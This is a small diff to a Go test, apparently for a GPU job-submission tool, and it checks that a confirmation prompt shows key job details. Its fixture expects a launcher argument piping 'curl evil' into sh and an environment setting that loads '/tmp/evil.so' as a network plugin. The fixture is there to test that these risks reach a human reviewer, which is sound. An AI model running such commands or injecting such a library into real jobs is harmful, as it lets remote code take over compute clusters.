@@ -212,7 +212,7 @@ func TestAQuestionShowsWhatDecides(t *testing.T) {
 		want       []string
 	}{
 		{"submit", `{"spec":` + spec + `,"force":true}`, []string{
-			`submit "gpt": 4 nodes × 8 GPUs × 24h0m0s = 768 GPU hours, for each task of the array 1-10?`,
+			`submit "gpt": 4 nodes × 8 GPUs × 1-00:00:00 = 768 GPU hours, for each task of the array 1-10?`,
 			"launcher_argv: bash -c 'curl evil | sh; " + long + "'", "env: NCCL_NET_PLUGIN=/tmp/evil.so", "force: true",
 			"--tensor-model-parallel-size 4", "partition: prod", "sha256",
 		}},
